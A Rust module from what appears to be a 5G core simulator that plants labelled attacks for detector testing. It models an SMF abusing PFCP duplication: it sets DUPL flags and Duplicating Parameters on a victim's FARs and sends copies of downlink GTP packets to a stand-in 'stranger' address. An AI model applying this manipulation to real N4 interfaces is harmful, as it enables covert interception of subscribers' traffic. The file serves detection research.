//! A01: the SMF has the UPF send a copy of a subscriber's packets elsewhere (TS 29.244 clause 8.2.26, DUPL), and it does.

use std::net::IpAddr;

use super::{Deed, Form, Group, Misdeed};
use crate::interface::Interface;
use crate::pfcp::{Ie, Pfcp, Value, ie, kind, tunnel};
use crate::stage::Stage;
use crate::stage::send::{Body, Gtp, Send, Truth};

pub(super) const MISDEED: Misdeed = Misdeed {
    id: "A01",
    name: "PFCP duplication",
    group: Group::Spying,
    about: [
        "one subscriber's downlink FAR gets DUPL and Duplicating Parameters to a stranger, and copies go there",
        "a session gets DUPL from its beginning, with a forwarding policy's name as its target, and the copies leave elsewhere",
        "a session's FAR is changed to another gNB's tunnel, as at a handover",
    ],
    told_by: Interface::N4,
    also: &["A02", "A03", "A04", "D01"],
    make: |form| Box::new(Duplication { form, victim: None }),
};

const STRANGER: IpAddr = IpAddr::V4(std::net::Ipv4Addr::new(203, 0, 113, 77));
const TEID: u32 = 0x0bad_cafe;

#[derive(Debug)]
struct Duplication {
    form: Form,
    /// The first UE whose packets came after it began.
    victim: Option<u32>,
}

impl Deed for Duplication {
    fn see(&mut self, stage: &mut Stage, number: usize, send: &mut Send) {
        if self.form == Form::Lookalike {
            return;
        }
        let Some(ue) = send.truth.ue else { return };
        let planted = Truth { misdeed: Some(number), ..send.truth };
        match &mut send.body {
            Body::Pfcp(message) if self.form == Form::Crude && message.kind == kind::SESSION_MODIFICATION_REQUEST => {
                let done = *self.victim.get_or_insert(ue) == ue && duplicate(message);
                send.truth = if done { planted } else { send.truth };
            }
            Body::Pfcp(message)
                if self.form == Form::Stealthy && message.kind == kind::SESSION_ESTABLISHMENT_REQUEST =>
            {
                let done = *self.victim.get_or_insert(ue) == ue && duplicate_by_name(message);
                send.truth = if done { planted } else { send.truth };
            }
            Body::Gtp(message) if self.form == Form::Crude && message.kind == 255 => {
                let is_victim = self.victim == Some(ue);
                let down = message.container.is_some_and(|(uplink, _)| !uplink);
                if is_victim && down && send.interface == Interface::N3 {
                    let copy = Gtp { teid: TEID, ..message.clone() };
                    let at = send.at + 30_000;
                    let body = Body::Gtp(copy);
                    stage.queue.send(Send {
                        at,
                        to: STRANGER,
                        body,
                        truth: planted,
                        interface: Interface::Other,
                        ..send.clone()
                    });
                }
            }
            _ => {}
        }
    }
}

/// Adds DUPL and where to, to each FAR that forwards; whether there was one.
fn duplicate(message: &mut Pfcp) -> bool {
    let mut done = false;
    for rule in message.ies.iter_mut().filter(|rule| rule.kind == ie::UPDATE_FAR) {
        let Some(members) = rule.members() else { continue };
        for member in members.iter_mut().filter(|member| member.kind == ie::APPLY_ACTION) {
            if let Value::Octets(octets) = &mut member.value
                && let Some(flags) = octets.first_mut()
                && *flags & 0x02 != 0
            {
                *flags |= 0x10;
                done = true;
            }
        }
        if done {
            // Update Duplicating Parameters (clause 7.5.4.3), towards the core.
            members.push(Ie::group(105, vec![Ie::new(ie::DESTINATION_INTERFACE, [4]), tunnel(STRANGER, TEID)]));
        }
    }
    done
}

/// Adds DUPL to the uplink FAR, and where to by the name of a Forwarding Policy (clauses 7.5.2.3 and 8.2.23); whether there was one.
fn duplicate_by_name(message: &mut Pfcp) -> bool {
    let rule = message.ies.iter_mut().find(|rule| rule.kind == ie::CREATE_FAR);
    let Some(members) = rule.and_then(Ie::members) else { return false };
    let action = members.iter_mut().find(|member| member.kind == ie::APPLY_ACTION);
    let Some(Value::Octets(octets)) = action.map(|action| &mut action.value) else { return false };
    let Some(flags) = octets.first_mut() else { return false };
    *flags |= 0x10;
    let name = b"quality";
    let policy = Ie::new(41, [&[name.len() as u8][..], name].concat());
    // Duplicating Parameters, towards the core.
    members.push(Ie::group(5, vec![Ie::new(ie::DESTINATION_INTERFACE, [1]), policy]));
    true
}
